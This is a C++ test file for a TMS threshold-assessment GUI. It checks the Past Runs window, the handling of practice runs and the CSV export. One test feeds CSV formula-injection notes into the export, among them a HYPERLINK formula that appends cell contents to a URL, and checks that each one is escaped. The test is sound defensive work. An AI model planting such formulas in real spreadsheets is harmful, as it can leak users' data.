// Past Runs and the CSV export: runs listed, noted and reopened, practice runs listed only
// when asked, cells no spreadsheet takes for a formula, and a thousand runs back whole.
#include <QTableWidget>

#include "core/console/notices.h"
#include "gui/journal/journal_export.h"
#include "gui/journal/journal_fixture.h"
#include "gui/journal/past_runs_window.h"

namespace limenta::testing {
namespace {

TEST_F(Journal, PastRunsListsReopensAndExports) {
    Window1& w = openWithJournal();
    ui.button("PushButton1")->click();
    type("yyn");
    report();  // printed during the run: the copy kept then says "not reached"
    type("nyny");
    ui.button("PushButton3")->click();
    fake.clocks.now = fake.clocks.now.addDays(1);
    ui.button("PushButton1")->click();
    type("yy");
    ASSERT_TRUE(settled());
    w.showPastRuns();
    auto* past = w.findChild<PastRunsWindow*>();
    ASSERT_NE(past, nullptr);
    QTableWidget* table = past->table;
    ASSERT_EQ(table->rowCount(), 2);
    EXPECT_EQ(table->item(0, PastRunsWindow::kWhen)->text(), "2026-12-09  09:30:15");  // newest
    EXPECT_EQ(table->item(1, PastRunsWindow::kEstimate)->text(), "41.69");
    EXPECT_EQ(table->item(1, PastRunsWindow::kPulses)->text(), "7");
    EXPECT_EQ(table->item(0, PastRunsWindow::kEstimate)->text(), "--");

    // The note is kept in the journal.
    table->item(1, PastRunsWindow::kNote)->setText(QStringLiteral("P-017, left hand"));
    ASSERT_TRUE(settled());
    EXPECT_EQ(column(journalPath(), QStringLiteral("SELECT note FROM runs WHERE id = 1")),
              QStringList{"P-017, left hand"});

    // Its report is composed afresh from the journal, never the copy printed mid-run.
    EXPECT_NE(column(journalPath(), QStringLiteral("SELECT report FROM runs WHERE id = 1"))
                  .value(0)
                  .indexOf(QLatin1String("not reached")),
              -1);
    table->selectRow(1);
    const QString kept = window->findChild<Window4*>()->EditField1->text();
    EXPECT_NE(kept.indexOf(QLatin1String("Resting Motor Threshold = 42")), -1)
        << kept.toStdString();
    EXPECT_EQ(kept.indexOf(QLatin1String("not reached")), -1);
    EXPECT_NE(kept.indexOf(QLatin1String("07   042.13   042   1.0   00.4375")), -1);
    EXPECT_NE(kept.indexOf(QLatin1String("Starting Value = 50")), -1);
    EXPECT_NE(kept.indexOf(QLatin1String("Total Assessment Time = 0 seconds")), -1);

    // Export: the selected run, one row per answer, the note quoted; a name without an
    // extension gets one, and the file is its owner's alone.
    const QString csvPath = dir.filePath(QStringLiteral("runs.csv"));
    fake.dialogs.saveAnswer = dir.filePath(QStringLiteral("runs"));
    past->exportCsv();
    EXPECT_EQ(fake.dialogs.offeredFilters, std::vector<QString>{"CSV files (*.csv)"});
    EXPECT_EQ(modeOf(csvPath), 0600);
    QFile csv(csvPath);
    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
    const QList<QByteArray> lines = csv.readAll().split('\n');
    ASSERT_EQ(lines.size(), 9);  // header, 7 answers, the empty end
    EXPECT_TRUE(lines[1].startsWith("1,2026-12-08T09:30:15Z,2026-12-08T09:30:15Z,pest,"));
    EXPECT_TRUE(lines[7].contains(",\"P-017, left hand\",7,42.125,1,41.6875,0.4375,"));

    // Quitting the second run asks, and says it is kept.
    w.close();
    ASSERT_EQ(fake.dialogs.questions.size(), 1U);
    EXPECT_EQ(fake.dialogs.questions[0],
              "A run is in progress. Quit anyway? It is kept in Past Runs.");
    EXPECT_FALSE(w.isVisible());
}

// A practice run, kept while another program holds the journal, reaches it marked as
// practice with the virtual patient's threshold; Past Runs and the CSV leave it out until
// "Show practice runs" is ticked.
TEST_F(Journal, APracticeRunIsKeptMarkedAndListedOnlyWhenAsked) {
    Window1& w = openWithJournal();
    ui.button("PushButton1")->click();  // a patient
    type("yynnyny");
    ui.button("PushButton3")->click();
    ASSERT_TRUE(settled());
    std::optional<Lock> lock(journalPath());
    w.startPractice();
    for (const char key : std::string("ynyn")) {
        firePulse();
        answer(key);
    }
    const double threshold = window->console().practicePatient()->threshold();
    ui.button("PushButton3")->click();
    pass(300);
    EXPECT_EQ(QString::fromStdString(window->console().view().notice), notice::kJournalWaiting);
    lock.reset();
    ASSERT_TRUE(settled());
    const auto runs = [this](const char* what) {
        return column(journalPath(),
                      QStringLiteral("SELECT %1 FROM runs ORDER BY id").arg(QLatin1String(what)));
    };
    EXPECT_EQ(runs("practice"), (QStringList{"0", "1"}));
    EXPECT_EQ(runs("(SELECT COUNT(*) FROM answers WHERE run_id = runs.id)"),
              (QStringList{"7", "4"}));
    const QStringList thresholds = runs("IFNULL(true_threshold, 'none')");
    ASSERT_EQ(thresholds.size(), 2);
    EXPECT_EQ(thresholds[0], "none");
    EXPECT_NEAR(thresholds[1].toDouble(), threshold, 1e-9);

    w.showPastRuns();
    auto* past = w.findChild<PastRunsWindow*>();
    ASSERT_NE(past, nullptr);
    const QString csvPath = dir.filePath(QStringLiteral("runs.csv"));
    fake.dialogs.saveAnswer = csvPath;
    const auto exported = [&] {
        past->exportCsv();
        QFile csv(csvPath);
        EXPECT_TRUE(csv.open(QIODevice::ReadOnly));
        return parseCsv(QString::fromUtf8(csv.readAll()));
    };
    EXPECT_FALSE(past->showPractice->isChecked());
    ASSERT_EQ(past->table->rowCount(), 1);
    EXPECT_EQ(past->table->item(0, PastRunsWindow::kMethod)->text(), "adaptive PEST");
    EXPECT_EQ(past->status->text(),
              "1 run, and 1 practice run not shown; the note is yours to edit.");
    std::vector<QStringList> rows = exported();
    ASSERT_EQ(rows.size(), 8U);  // the header and the patient's 7 answers
    EXPECT_EQ(rows[7][17], "0");
    EXPECT_EQ(rows[7][18], "");

    past->showPractice->setChecked(true);
    ASSERT_EQ(past->table->rowCount(), 2);
    EXPECT_EQ(past->table->item(0, PastRunsWindow::kMethod)->text(),
              "adaptive PEST \u2013 practice");
    rows = exported();
    ASSERT_EQ(rows.size(), 12U);  // the practice run's 4 answers come first, the newest
    EXPECT_EQ(rows[1][17], "1");
    EXPECT_NEAR(rows[1][18].toDouble(), threshold, 1e-9);
    EXPECT_EQ(rows[11][17], "0");

    // Its report, composed from the journal, says PRACTICE.
    past->table->selectRow(0);
    EXPECT_TRUE(window->findChild<Window4*>()->EditField1->text().contains(
        QStringLiteral("\rLimenta\r") + QString::fromUtf8(kPracticeTitle) + QLatin1Char('\r')));
}

TEST_F(Journal, AnExportedCsvRunsNoFormulaAndKeepsItsNumbersNumbers) {
    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
    const QStringList notes{QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
                            QStringLiteral("+1"),
                            QStringLiteral("-12"),
                            QStringLiteral("@SUM(A1)"),
                            QStringLiteral("\tP-1"),
                            QStringLiteral("\rP-2"),
                            QStringLiteral("P-3 = fine")};
    for (const QString& note : notes) {
        JournalRun run;
        run.uid = note.toStdString();
        run.method = "ml";
        run.started = "2026-12-09T10:00:00Z";
        run.settings = "{}";
        ASSERT_TRUE(opened.journal->write({JournalWrite::start(run)}));
        const qint64 id = opened.journal->runs().front().id;
        ASSERT_TRUE(opened.journal->write({JournalWrite::noted(id, note.toStdString()),
                                           JournalWrite::taken(run, {{1, -0.5, 1, 43, 7}, "t"})}));
    }
    const std::vector<JournalRun> runs = opened.journal->runs();
    const std::vector<QStringList> rows = parseCsv(journalCsv(*opened.journal, runs));
    ASSERT_EQ(rows.size(), 1 + notes.size());
    for (std::size_t r = 1; r < rows.size(); ++r) {
        const QString note = QString::fromStdString(runs[r - 1].note);
        const bool formulaStart = QStringLiteral("=+-@\t\r").contains(note.front());
        EXPECT_EQ(rows[r][8], formulaStart ? QLatin1Char('\'') + note : note);
        EXPECT_EQ(rows[r][10], "-0.5");  // a number stays a number, its sign and all
    }
}

TEST_F(Journal, AThousandRunsComeBackWholeFromTheirCsv) {
    RunJournal::Opened opened = RunJournal::open(journalPath(), RunJournal::Access::Write);
    ASSERT_TRUE(opened.journal) << opened.problem.toStdString();
    RunJournal& journal = *opened.journal;
    const QStringList notes{QStringLiteral("P-1, \"left\""), QStringLiteral("two\nlines"),
                            QStringLiteral("plain"), QString()};
    for (int r = 1; r <= 1000; ++r) {
        JournalRun run;
        run.uid = std::to_string(r);
        run.started = QStringLiteral("2026-12-%1T10:00:00+01:00").arg(r % 28 + 1).toStdString();
        run.method = methods()[static_cast<std::size_t>(r) % methods().size()].key;
        run.settings = R"({"initial_output":"5,5"})";
        if (r % 5 == 0) {
            run.practice = true;
            run.trueThreshold = 30 + r / 21.0;
        } else if (r % 3 == 1) {
            run.patient = "P-" + std::to_string(r % 17);
            run.setup = {Hemisphere::Right, "FDI", "D70, \"cooled\"", "", Judged::Twitch};
        }
        std::vector<JournalWrite> writes{
            JournalWrite::start(run),
            JournalWrite::noted(r, notes[r % notes.size()].toStdString())};
        for (int t = 1; t <= r % 4; ++t) {  // some runs without answers
            writes.push_back(JournalWrite::taken(
                run, {{t, 40 + t / 3.0, t % 2, 41.0 / t, 7.0 / t},
                      QStringLiteral("2026-12-01T10:00:0%1Z").arg(t).toStdString()}));
        }
        if (r % 4 == 3) {  // the third answer taken back: still a row, marked
            JournalAnswer third;
            third.seq = 3;
            third.withdrawnAt = "2026-12-01T10:00:09Z";
            writes.push_back(JournalWrite::withdrawn(run, third));
        }
        ASSERT_TRUE(journal.write(writes));
    }
    const std::vector<JournalRun> runs = journal.runs();
    const std::vector<QStringList> rows = parseCsv(journalCsv(journal, runs));
    ASSERT_FALSE(rows.empty());
    EXPECT_EQ(rows[0].join(QLatin1Char(',')),
              "run_id,started,ended,method,settings,estimate,interval_low,interval_high,note,"
              "trial,fired,answer,next,diff,at,above_100,withdrawn_at,practice,true_threshold,"
              "patient,hemisphere,muscle,coil,stimulator,judged");
    std::size_t at = 1;
    for (const JournalRun& run : runs) {
        const std::vector<JournalAnswer> answers = journal.answers(run.id);
        for (std::size_t a = 0; a < std::max<std::size_t>(answers.size(), 1); ++a) {
            ASSERT_LT(at, rows.size());
            const QStringList& row = rows[at++];
            ASSERT_EQ(row.size(), 25) << row.join(QLatin1Char('|')).toStdString();
            EXPECT_EQ(row[19].toStdString(), run.patient);
            const QStringList setup =
                run.patient.empty() ? QStringList{"", "", "", "", ""}
                                    : QStringList{"right", "FDI", "D70, \"cooled\"", "", "twitch"};
            EXPECT_EQ(row.mid(20), setup);
            EXPECT_EQ(row[15], "0");
            EXPECT_EQ(row[17], run.practice ? "1" : "0");
            EXPECT_EQ(row[18].isEmpty(), !run.practice);
            EXPECT_EQ(row[18].toDouble(), run.trueThreshold.value_or(0));  // every bit
            EXPECT_EQ(row[0].toLongLong(), run.id);
            EXPECT_EQ(row[1].toStdString(), run.started);
            EXPECT_EQ(row[3].toStdString(), run.method);
            EXPECT_EQ(row[4].toStdString(), run.settings);
            EXPECT_EQ(row[8].toStdString(), run.note);
            if (answers.empty()) {
                EXPECT_TRUE(row[9].isEmpty());
                continue;
            }
            EXPECT_EQ(row[9].toInt(), answers[a].trial);
            EXPECT_EQ(row[10].toDouble(), answers[a].fired);  // every bit
            EXPECT_EQ(row[11].toInt(), answers[a].answer);
            EXPECT_EQ(row[12].toDouble(), answers[a].next);
            EXPECT_EQ(row[13].toDouble(), answers[a].diff);
            EXPECT_EQ(row[14].toStdString(), answers[a].at);
            EXPECT_EQ(row[16], a == 2 ? QStringLiteral("2026-12-01T10:00:09Z") : QString());
        }
        if (HasFailure()) {
            return;
        }
    }
    EXPECT_EQ(at, rows.size());
    EXPECT_EQ(at, 1U + 250U * (1 + 1 + 2 + 3));  // 1000 runs of 0 (one row), 1, 2 and 3 answers
}

}  // namespace
}  // namespace limenta::testing
